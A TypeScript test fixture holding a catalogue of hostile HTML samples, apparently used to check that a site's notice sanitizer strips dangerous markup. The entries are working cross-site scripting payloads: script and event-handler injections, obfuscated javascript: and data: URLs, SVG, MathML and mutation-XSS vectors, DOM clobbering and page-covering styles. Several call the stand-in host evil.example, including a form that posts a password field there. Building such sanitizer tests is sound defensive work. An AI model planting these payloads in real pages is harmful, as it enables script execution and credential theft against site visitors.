/**
 * Notice bodies that attack the page, keyed by attack. Each tries to call `ran()`, to request something from
 * evil.example, or to cover the page.
 */

const img = '<img src=x onerror=ran()>';

export const hostileSamples: Readonly<Record<string, string>> = {
  // Scripts and handlers
  'a script': '<script>ran()</script><script src="https://evil.example/a.js"></script>',
  'a nested script': '<scr<script>ipt>ran()</scr</script>ipt>',
  'a script with an odd end tag': '<script>ran()</script foo="bar" ><SCRIPT/x>ran()</SCRIPT\n>',
  'an unterminated script': '<b>x</b><script>ran()',
  'a handler': `${img}<p onclick="ran()" ONMOUSEOVER=ran() onfocus="ran()" tabindex=0 autofocus>x</p>`,
  'a handler behind a slash': '<img/src=x/onerror=ran()><p/onpointerrawupdate=ran()>x</p>',
  'a handler in a broken attribute': '<img src="x" alt="`<"`onerror=ran() title="a\'b"><img src=`x`onerror=ran()>',
  'a handler in a quoted name': '<p "onclick=ran()" x=\'"><img src=x onerror=ran()>\'>x</p>',
  'a handler that runs without interaction':
    '<details open ontoggle=ran()><summary>x</summary>y</details><marquee onstart=ran()>x</marquee>',
  'a handler of an animation':
    '<p style="animation:x 1s" onanimationstart=ran()>x</p><video><source onerror=ran()></video>',
  // URLs
  'javascript:': '<a href="javascript:ran()">x</a><a href=" JaVaScRiPt:ran()">x</a><img src="javascript:ran()">',
  'javascript: with white space':
    '<a href="java\tscript:ran()">x</a><a href="\u0001javascript:ran()">x</a><a href="java\nscript\r:ran()">x</a>',
  'javascript: in entities':
    '<a href="&#106;avascript:ran()">x</a><a href="java&Tab;script&colon;ran()">x</a><a href="&#x6A&#x61vascript:ran()">x</a>',
  'vbscript: and data:':
    '<a href="vbscript:ran()">x</a><a href="data:text/html,<script>ran()</script>">x</a><a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml,<svg onload=ran()>">',
  'other schemes':
    '<a href="blob:https://evil.example/1">x</a><a href="file:///etc/passwd">x</a><a href="view-source:https://evil.example">x</a><a href="weixin://dl/scan">x</a>',
  'a link with a target and rel=opener':
    '<a href="https://evil.example/" target="main" rel="opener" ping="https://evil.example/p" download>x</a>',
  srcset:
    '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x"><picture><source srcset="https://evil.example/c.png"><img src="//evil.example/d.png"></picture>',
  'other attributes that fetch':
    '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">x</td></tr></table><body background="https://evil.example/c.png"><img lowsrc="https://evil.example/d.png" dynsrc="https://evil.example/e">',
  // Embedded documents and forms
  'an svg': `<svg onload=ran()><script>ran()</script><a href="javascript:ran()"><text>x</text></a></svg><svg><use href="data:image/svg+xml,<svg id='x' onload='ran()'/>#x"/></svg>`,
  'an animated svg':
    '<svg><a><animate attributeName=href values=javascript:ran() /><set attributeName=onmouseover to=ran() /><text>x</text></a></svg>',
  'an svg with a foreign object': `<svg><foreignObject>${img}<iframe src="javascript:parent.ran()"></iframe></foreignObject></svg>`,
  math: `<math><maction actiontype="statusline#" xlink:href="javascript:ran()">x</maction><annotation-xml encoding="text/html">${img}</annotation-xml></math>`,
  'an iframe':
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.ran()</script>"></iframe><iframe src="javascript:parent.ran()">',
  'object, embed and applet':
    '<object data="https://evil.example/a.swf"><param name=movie value="javascript:ran()"></object><embed src="https://evil.example/a.swf"><applet code=x></applet>',
  'a base': '<base href="https://evil.example/"><base target="_top">',
  'a form':
    '<form action="https://evil.example/" id=main><input name=password value=x autofocus onfocus=ran()><button formaction="javascript:ran()">x</button><input type=image src="https://evil.example/a.png"><isindex></form>',
  'meta refresh and links':
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/b">',
  // Styles
  'a style element': '<style>@import "https://evil.example/a.css";body{display:none}#main{position:fixed}</style>',
  'a style that covers the page':
    '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">x</p><p style="margin:-9999px;transform:scale(9)">x</p><div style="POSITION : absolute !important;inset:0">x</div>',
  'a style that fetches or acts':
    '<p style="background:url(https://evil.example/a.png)">x</p><p style="width:expression(ran())">x</p><p style="behavior:url(a.htc);-moz-binding:url(a.xml#x)">x</p><p style="text-align:left;background:u\\72l(https://evil.example/b.png)">x</p>',
  'a style broken by a comment': '<p style="text-align:cen/**/ter;wid/**/th:1px;x:\'}*{display:none}\'">x</p>',
  'classes and attributes of the site':
    '<p class="visually-hidden _bar_">x</p><p hidden inert contenteditable is="x-y" slot=a part=b>x</p>',
  // Elements whose content is not parsed as HTML
  'template and noscript': `<template>${img}</template><noscript><p title="</noscript>${img}"></noscript>`,
  'textarea and title': `<textarea><p title="</textarea>${img}"></textarea><title>${img}</title><title><p title="</title>${img}"></title>`,
  'xmp and listing': `<xmp><p title="</xmp>${img}"></xmp><listing>${img}</listing>`,
  'noembed and noframes': `<noembed><p title="</noembed>${img}"></noembed><noframes><p title="</noframes>${img}"></noframes>`,
  'select and option': `<select><option><style></option></select>${img}</style></option></select>`,
  comments: `<!--><script>ran()</script>--><!-- --!>${img}--><!--[if IE]>${img}<![endif]--><!-->${img}-->`,
  CDATA: `<![CDATA[><script>ran()</script>]]><svg><![CDATA[</svg>${img}]]></svg>`,
  'a processing instruction and a doctype': `<?xml version="1.0"?><?php ${img} ?><!DOCTYPE html [<!ENTITY x "${img}">]><!x ${img}>`,
  // Mutation XSS: changes when parsed again
  'mutation: math, mglyph, style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;"></math>',
  'mutation: svg, p, style': '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  'mutation: noscript': '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  'mutation: forms in math': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  'mutation: nested tables': `<table><caption><table><svg><style><a title="</style>${img}"></caption></table>`,
  'mutation: nested links, and content moved out of a table':
    '<a href="/breed/index">a<table><a href="javascript:ran()">b</table><b><i></b>c</i>',
  'mutation: entities in an attribute':
    '<p title="&lt;img src=x onerror=ran()&gt;">x</p><a href="/breed/index" title="&quot;&gt;&lt;img src=x onerror=ran()&gt;">x</a><img alt="`&#96; onerror=ran() " src=/u/a.png>',
  'mutation: escaped twice': '&amp;lt;img src=x onerror=ran()&amp;gt;<p>&lt;script&gt;ran()&lt;/script&gt;</p>',
  // DOM clobbering and prototype names
  'clobbering ids and names':
    '<a id=main name=getElementById href="/breed/index">x</a><img name=body src=/u/a.png><p id=__proto__>x</p><a id=ran><a id=ran name=call href="javascript:1">',
  'names of object prototypes':
    '<constructor onclick=ran()>x</constructor><__proto__>x</__proto__><p style="__proto__:1;constructor:2">x</p><x-y onclick=ran()>x</x-y>',
  // Broken or oversized HTML
  'unclosed tags': '<table><tr><td><div><p><b><a href="https://evil.example/"><ul><li><blockquote><p title="',
  'end tags of the page': '</p></div></main></body></html></template></script></style>x',
  'ten thousand nested blocks': `${'<div>'.repeat(10_000)}x${'</div>'.repeat(10_000)}`,
  'null bytes': '<scr\0ipt>ran()</scr\0ipt><im\0g src=x one\0rror=ran()><a href="java\0script:ran()">x\0</a>',
  'other alphabets': '\u{ff1c}script\u{ff1e}ran()\u{ff1c}/script\u{ff1e}<p>\u202eabc\u2066</p><ſcript>ran()</ſcript>',
  'an endless word': `<p>${'很'.repeat(200)}${'w'.repeat(4_000)}</p><p>https://www.fci.be/${'x'.repeat(2_000)}</p>`,
  'an endless table': `<table width="9000"><tr>${'<td width="900" nowrap colspan="1000" rowspan="65534">cell</td>'.repeat(40)}</tr></table>`,
  'an endless picture': '<img src="/u/a.png" width="9999" height="9999" hspace="5000"><hr width="9000" size="4000">',
  'end tags too many: list items in blocks':
    '<ul><li><div><li>x</li></div></li></ul><dl><dd><div><dt>x</dt></div></dd></dl>',
  'end tags too many: tables in blocks': '<table><div><table><tr><td>x</td></tr></table></div></table>',
  'an endless list': `${'<ul><li>'.repeat(60)}x`,
  'a plaintext': `<plaintext>${img}<script>ran()</script>`,
};
